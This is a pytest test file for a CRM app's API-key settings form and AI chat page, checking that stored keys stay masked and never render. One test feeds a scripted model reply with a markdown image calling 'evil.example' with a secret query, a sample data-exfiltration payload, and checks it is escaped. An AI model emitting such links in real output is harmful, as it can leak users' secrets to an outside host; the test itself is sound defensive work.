"""The Settings key form and the AI Assistant chat page, driven with Streamlit's AppTest."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from streamlit.testing.v1 import AppTest

from crm.enums import ProviderName, TeamRole
from crm.schemas.common import Actor
from crm.schemas.secrets import ProviderKeyInput
from crm.services import secrets
from tests.agent.fake_llm import fake_llm_server
from tests.agent.fakes import call, say, scripted
from tests.factories import make_lead, make_member, make_team

ROOT = Path(__file__).resolve().parents[2]
FULL_KEY = "sk-ant-api03-THIS-IS-THE-WHOLE-SECRET-KEY-wxyz"


def open_page(page: str, actor: Actor, **state: Any) -> AppTest:
    """Run `page` through app.py (router, auth gate, sidebar) as `actor`."""
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=30)
    at.session_state["auth"] = {"user_id": actor.user_id, "team_id": actor.team_id}
    for key, value in state.items():
        at.session_state[key] = value
    at.switch_page(page)
    return at.run()


def everything_rendered(at: AppTest) -> str:
    """Every element's protobuf, widget values and session state, as one string to search."""
    parts: list[str] = []

    def walk(node: Any) -> None:
        if getattr(node, "proto", None) is not None:
            parts.append(str(node.proto))
        for child in getattr(node, "children", {}).values():
            walk(child)

    walk(at._tree)
    parts += [repr(w.value) for w in at.text_input]
    parts += [repr(v) for v in at.session_state.to_dict().values()]
    return "\n".join(parts)


def save_key(at: AppTest, provider: ProviderName, key: str) -> AppTest:
    at.selectbox(key="settings_ai_provider").set_value(provider)
    at.text_input(key="settings_ai_key").input(key)
    return at.button(key="settings_ai_save").click().run()


def test_settings_saves_a_key_and_then_shows_only_its_last_4(db: str) -> None:
    me = make_member(make_team())
    at = open_page("pages/settings.py", me)
    assert not at.exception
    assert "No key saved yet" in at.info[0].value

    at = save_key(at, ProviderName.ANTHROPIC, FULL_KEY)

    assert not at.exception and not at.error
    assert at.success[0].value == "Saved your Anthropic (Claude) key ending in wxyz."
    assert [c.value for c in at.code] == ["•••• wxyz"]
    assert at.text_input(key="settings_ai_key").value == ""
    assert FULL_KEY not in everything_rendered(at)
    assert FULL_KEY[:-4] not in everything_rendered(at)
    [stored] = secrets.list_user_keys(me)
    assert (stored.provider, stored.last4) == (ProviderName.ANTHROPIC, "wxyz")
    assert secrets.reveal_user_key(me, ProviderName.ANTHROPIC) == FULL_KEY

    at.run()  # a later rerun shows no key either
    assert FULL_KEY not in everything_rendered(at)


def test_settings_refuses_a_short_key_readably_and_saves_nothing(db: str) -> None:
    me = make_member(make_team())
    at = open_page("pages/settings.py", me)

    at = save_key(at, ProviderName.OPENAI, "sk-1")

    assert not at.exception
    assert at.error[0].value.startswith("The key was not saved.")
    assert "does not look like an API key" in at.error[0].value
    assert "sk-1" not in everything_rendered(at)
    assert secrets.list_user_keys(me) == []

    at = at.button(key="settings_ai_save").click().run()  # empty input
    assert at.error[0].value == "Paste your API key first."


def test_settings_removes_a_key(db: str) -> None:
    me = make_member(make_team())
    secrets.set_user_key(me, ProviderKeyInput(provider=ProviderName.OPENAI, key="sk-openai-key-1234"))
    at = open_page("pages/settings.py", me)
    assert [c.value for c in at.code] == ["•••• 1234"]

    at = at.button(key="settings_remove_OPENAI").click().run()

    assert at.success[0].value == "Removed your OpenAI (GPT) key."
    assert not at.code
    assert secrets.list_user_keys(me) == []


def test_assistant_without_a_key_explains_how_to_add_one(db: str) -> None:
    me = make_member(make_team())

    at = open_page("pages/assistant.py", me)

    assert not at.exception
    assert "your own Anthropic or OpenAI API key" in at.info[0].value
    assert (at.page_link[0].proto.page, at.page_link[0].proto.label) == ("settings", "Add your API key in Settings")
    assert not at.chat_input


def test_assistant_answers_with_an_injected_model_and_shows_the_tools_it_used(db: str) -> None:
    me = make_member(make_team(), TeamRole.OWNER)
    make_lead(me, first_name="Dana")
    secrets.set_user_key(me, ProviderKeyInput(provider=ProviderName.ANTHROPIC, key=FULL_KEY))
    model = scripted(call("search_leads", search="Dana"), say("Dana Buyer is your only match."))
    at = open_page("pages/assistant.py", me, assistant_test_model=model)
    assert not at.exception
    assert "ending in wxyz" in at.caption[0].value

    at = at.chat_input(key="assistant_prompt").set_value("Find Dana").run()

    assert not at.exception and not at.error
    user, reply = at.chat_message
    assert (user.name, user.markdown[0].value) == ("user", "Find Dana")
    assert reply.name == "assistant"
    assert [c.value for c in reply.caption] == [":material/build: Searched leads"]
    assert reply.markdown[-1].value == "Dana Buyer is your only match."
    assert [t["role"] for t in at.session_state["assistant_messages"]] == ["user", "assistant"]
    assert FULL_KEY not in everything_rendered(at)

    at = at.button(key="assistant_new_conversation").click().run()
    assert not at.chat_message and at.session_state["assistant_messages"] == []


def test_assistant_uses_the_stored_key_end_to_end_and_never_exposes_it(
    db: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    me = make_member(make_team(), TeamRole.OWNER)
    dana = make_lead(me, first_name="Dana")
    user_key = "sk-proj-the-users-own-openai-key-9876"
    secrets.set_user_key(me, ProviderKeyInput(provider=ProviderName.OPENAI, key=user_key))
    with fake_llm_server() as fake:
        monkeypatch.setenv("OPENAI_BASE_URL", fake.url + "/v1")  # the real ChatOpenAI, pointed at the fake
        at = open_page("pages/assistant.py", me)

        at = at.chat_input(key="assistant_prompt").set_value("Find Dana").run()

    assert not at.exception and not at.error
    assert {r.headers["authorization"] for r in fake.requests} == {f"Bearer {user_key}"}
    answer = at.chat_message[-1].markdown[-1].value
    assert [row["id"] for row in json.loads(answer.removeprefix("Found: "))["leads"]] == [dana.id]
    assert user_key not in everything_rendered(at)


def test_assistant_says_so_when_the_provider_refuses_the_key(db: str, monkeypatch: pytest.MonkeyPatch) -> None:
    me = make_member(make_team())
    secrets.set_user_key(me, ProviderKeyInput(provider=ProviderName.OPENAI, key="sk-revoked-0000"))
    with fake_llm_server() as fake:
        fake.rejected_keys.add("sk-revoked-0000")
        monkeypatch.setenv("OPENAI_BASE_URL", fake.url + "/v1")
        at = open_page("pages/assistant.py", me)

        at = at.chat_input(key="assistant_prompt").set_value("hi").run()

    assert not at.exception
    assert at.error[0].value == ("The AI provider refused the key. Check it, or save a new one, "
                                 "on the Settings page.")
    assert "sk-revoked-0000" not in everything_rendered(at)


def test_assistant_never_renders_markdown_images_from_the_model(db: str) -> None:
    me = make_member(make_team())
    secrets.set_user_key(me, ProviderKeyInput(provider=ProviderName.OPENAI, key="sk-openai-key-1234"))
    model = scripted(say("Look! ![x](https://evil.example/?q=secret)"))
    at = open_page("pages/assistant.py", me, assistant_test_model=model)

    at = at.chat_input(key="assistant_prompt").set_value("hi").run()

    assert at.chat_message[-1].markdown[-1].value == "Look! !\\[x](https://evil.example/?q=secret)"


def test_the_test_model_seam_is_inert_outside_tests(db: str, monkeypatch: pytest.MonkeyPatch) -> None:
    from crm.config import get_settings

    def probe() -> None:
        import streamlit as st

        from crm.ui.assistant import injected_test_model

        st.session_state["assistant_test_model"] = "a model"
        st.text(repr(injected_test_model()))

    assert AppTest.from_function(probe).run().text[0].value == "'a model'"
    monkeypatch.setenv("CRM_ENV", "development")
    get_settings.cache_clear()
    assert AppTest.from_function(probe).run().text[0].value == "None"
    get_settings.cache_clear()
